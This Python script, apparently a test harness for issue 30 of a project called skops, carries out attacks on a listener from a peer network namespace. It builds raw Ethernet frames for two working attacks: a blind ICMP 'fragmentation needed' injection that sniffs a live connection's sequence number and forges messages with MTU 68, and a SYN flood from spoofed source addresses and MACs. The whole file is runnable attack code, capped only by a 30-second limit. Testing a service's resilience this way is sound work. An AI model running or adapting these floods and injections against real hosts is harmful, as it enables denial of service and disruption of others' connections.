#!/usr/bin/env python3
"""Remote attacks on a skops listener from the peer namespace (issue 30),
written as raw Ethernet frames on an AF_PACKET socket: no scapy, which
builds a few thousand packets a second here, far below a flood's rate.

  attacker.py icmp IFACE SERVER_IP PORT SECONDS PPS
      Blind ICMP "fragmentation needed", next-hop MTU 68, quoting segments
      from SERVER_IP:PORT. The latest segment of that flow seen on IFACE
      gives the client port and the server's sequence number; half the
      messages name that connection with a sequence number half the space
      away (never in flight: what a blind guess almost always is), half
      random ports and random sequence numbers. Prints {"sent": N} on exit.
  attacker.py synflood IFACE SERVER_MAC SERVER_IP PORT SECONDS SOURCES PPS
      SYNs from SOURCES spoofed on-link addresses (198.18.0.10 up, random
      MACs nobody answers ARP for), PPS a second (0: the attacker's full
      speed). Prints {"sent": N, "pps": R}.
Every loop is bounded by SECONDS (at most 30).
"""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 3
ETH_P_IP = 0x0800


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(src, dst, proto, payload, ident=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def eth(dst, src, payload):
    return dst + src + struct.pack("!H", ETH_P_IP) + payload


def mac_of(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def flow_of(f, want, port):
    """(server MAC, client port, server seq) when f is a segment of the flow."""
    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != want:
        return None
    ihl = (f[14] & 15) * 4
    sport, dport, seq = struct.unpack("!HHI", f[14 + ihl:22 + ihl])
    return (f[6:12], dport, seq) if sport == port else None


def sniff_flow(s, server_ip, port, deadline, flow=None, most=8):
    """The latest segment's flow: blocks until one when flow is None, else
    reads what is there (at most most frames)."""
    want = socket.inet_aton(server_ip)
    n = 0
    while flow is None or n < most:
        n += 1
        if flow is not None:
            try:
                f = s.recv(2048, socket.MSG_DONTWAIT)
            except (BlockingIOError, InterruptedError, socket.timeout):
                return flow
        else:
            if time.monotonic() >= deadline:
                return None
            try:
                f = s.recv(2048)
            except socket.timeout:
                continue
        flow = flow_of(f, want, port) or flow
    return flow


def icmp(iface, server_ip, port, seconds, pps):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    # a small buffer: the kernel drops old frames, the flow's latest count
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32768)
    s.bind((iface, 0))
    s.settimeout(0.2)
    end = time.monotonic() + seconds
    flow = sniff_flow(s, server_ip, port, end)
    if flow is None:
        print(json.dumps({"sent": 0, "error": "no segment of the flow seen"}))
        return 1
    me = mac_of(iface)
    peer = socket.inet_ntoa(socket.inet_aton(server_ip)[:3] + b"\x01")
    rnd = random.Random(30)
    sent = 0
    gap = 1.0 / pps
    nxt = time.monotonic()
    while time.monotonic() < end:
        smac, cport, sseq = flow = sniff_flow(s, server_ip, port, end, flow)
        if sent % 2 == 0:
            dport, seq = cport, (sseq + 0x80000000 + rnd.randrange(1 << 28)) & 0xFFFFFFFF
        else:
            dport, seq = rnd.randrange(1024, 65536), rnd.randrange(1 << 32)
        # the quoted segment as the server sent it: its IP header and the
        # first 8 bytes of TCP (ports, sequence number), RFC 792
        inner = ip4(server_ip, peer, 6, struct.pack("!HHI", port, dport, seq) + b"\0" * 12)
        body = struct.pack("!BBHHH", 3, 4, 0, 0, 68) + inner[:28]
        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
        s.send(eth(smac, me, ip4(peer, server_ip, 1, body, sent & 0xFFFF)))
        sent += 1
        nxt += gap
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    print(json.dumps({"sent": sent}))
    return 0


def synflood(iface, server_mac, server_ip, port, seconds, sources, pps):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    dmac = bytes.fromhex(server_mac.replace(":", ""))
    dst = socket.inet_aton(server_ip)
    base = struct.unpack("!I", dst)[0] & 0xFFFFFF00
    rnd = random.Random(31)
    frames = []
    for i in range(4096):
        src = socket.inet_ntoa(struct.pack("!I", base | (10 + i % sources)))
        smac = bytes([0x02, 0x5a, rnd.randrange(256), rnd.randrange(256), 0, i % sources])
        sport, seq = rnd.randrange(1024, 65536), rnd.randrange(1 << 32)
        # SYN with MSS 1460, as a client's
        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
        tcp += struct.pack("!BBH", 2, 4, 1460)
        ph = socket.inet_aton(src) + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        frames.append(eth(dmac, smac, ip4(src, server_ip, 6, tcp, i)))
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    send = s.send
    batch = 64
    while time.monotonic() < end:
        for f in frames[:batch]:
            try:
                send(f)
            except BlockingIOError:
                pass
        frames = frames[batch:] + frames[:batch]
        sent += batch
        if pps:
            d = t0 + sent / pps - time.monotonic()
            if d > 0:
                time.sleep(d)
    el = time.monotonic() - t0
    print(json.dumps({"sent": sent, "pps": round(sent / el)}))
    return 0


def main(a):
    if len(a) == 6 and a[0] == "icmp":
        return icmp(a[1], a[2], int(a[3]), min(float(a[4]), 30), float(a[5]))
    if len(a) == 8 and a[0] == "synflood":
        return synflood(a[1], a[2], a[3], int(a[4]), min(float(a[5]), 30), int(a[6]),
                        float(a[7]))
    sys.stderr.write(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
